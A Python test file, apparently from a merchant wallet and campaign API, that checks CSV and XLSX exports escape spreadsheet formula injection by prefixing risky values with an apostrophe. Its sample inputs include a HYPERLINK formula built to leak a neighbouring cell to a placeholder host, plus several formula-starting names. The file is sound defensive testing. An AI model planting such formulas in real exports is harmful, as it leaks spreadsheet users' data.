"""Issue #16, findings 1, 6 and 8 (security.md): formula-safe downloads, strict input, checked
upstream facts, header limits, a complete `Allow`, security headers, and start-up that explains
itself."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.conftest import Factory
from tests.test_campaigns import World, _submitted, make_campaign
from tests.test_task_orders_support import fund

# a reference that Excel would run as a link leaking the neighbouring cell, and names that
# would start formulas
HYPERLINK = '=HYPERLINK("http://x?x="&A1,"click me")'
FORMULA_NAMES = ["=1+2", "+1+2", "-1+2", "@SUM(1)"]


def _xlsx_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def _assert_inert_xlsx(content: bytes, expected: list[str]) -> None:
    cells = _xlsx_cells(content)
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # XML reads a carriage return in text back as a line feed
    for value in (v.replace("\r", "\n") for v in expected):
        assert "'" + value in texts, (value, texts)
        assert value not in texts


def _assert_inert_csv(content: bytes, expected: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for value in expected:
        assert "'" + value in cells, (value, cells)


async def test_top_up_exports_write_a_formula_reference_as_text(client, factory: Factory):
    merchant = await factory.user("merchant")
    await fund(client, merchant, 1000)
    references = [HYPERLINK, "+86 10 1234", "-5", "@cmd", "\tTAB", "\rCR"]
    for reference in references:
        r = await client.post(
            "/v1/wallet/top-ups",
            headers=merchant.headers,
            json={"amount_fen": 777, "method": "bank_transfer", "reference": reference},
        )
        assert r.status_code == 201, r.text
    op = await factory.operator()
    for user in (merchant, op):
        csv_answer = await client.get("/v1/wallet/top-ups/export", headers=user.headers, params={"format": "csv"})
        assert csv_answer.status_code == 200
        _assert_inert_csv(csv_answer.content, references)
        xlsx_answer = await client.get("/v1/wallet/top-ups/export", headers=user.headers, params={"format": "xlsx"})
        assert xlsx_answer.status_code == 200
        _assert_inert_xlsx(xlsx_answer.content, references)
        # numbers stay numbers
        assert 777 in [c.value for c in _xlsx_cells(xlsx_answer.content)]


async def test_stock_plan_exports_write_formula_nicknames_as_text(client, factory: Factory):
    merchant = await factory.user("merchant")
    creators = [await factory.user("creator", nickname=name) for name in FORMULA_NAMES]
    campaign = await make_campaign(client, factory, eligible=[c.id for c in creators])
    w = World(await factory.operator(), campaign, creators[0], [merchant])
    product = (
        await client.post("/v1/products", headers=merchant.headers, json={"title": HYPERLINK, "price_fen": 100, "inventory": 5})
    ).json()
    for creator in creators:
        await _submitted(client, w, creator, 2, product["id"])
    url = f"/v1/campaigns/{campaign['id']}/stock-plan/export"
    r = await client.get(url, headers=merchant.headers, params={"format": "csv"})
    assert r.status_code == 200
    _assert_inert_csv(r.content, [*FORMULA_NAMES, HYPERLINK])
    r = await client.get(url, headers=merchant.headers, params={"format": "xlsx"})
    assert r.status_code == 200
    _assert_inert_xlsx(r.content, [*FORMULA_NAMES, HYPERLINK])
    assert [c.value for c in _xlsx_cells(r.content)].count(2) == len(FORMULA_NAMES)


def test_the_shared_writers_neutralise_every_formula_start():
    from app.domain.exports import as_text, csv_bytes, xlsx_bytes

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert as_text(start + "1") == "'" + start + "1"
    assert as_text("plain") == "plain" and as_text("") == ""
    # a control character (dropped from XLSX) cannot hide a leading "="
    data = xlsx_bytes("s", ["h"], [["\x01=1+1"], [-5], [1.5]])
    cells = _xlsx_cells(data)
    assert [c.value for c in cells] == ["h", "'=1+1", -5, 1.5]
    assert all(c.data_type != "f" for c in cells)
    assert csv_bytes(["h"], [["=1"], [-5]]).decode("utf-8-sig").splitlines() == ["h", "'=1", "-5"]
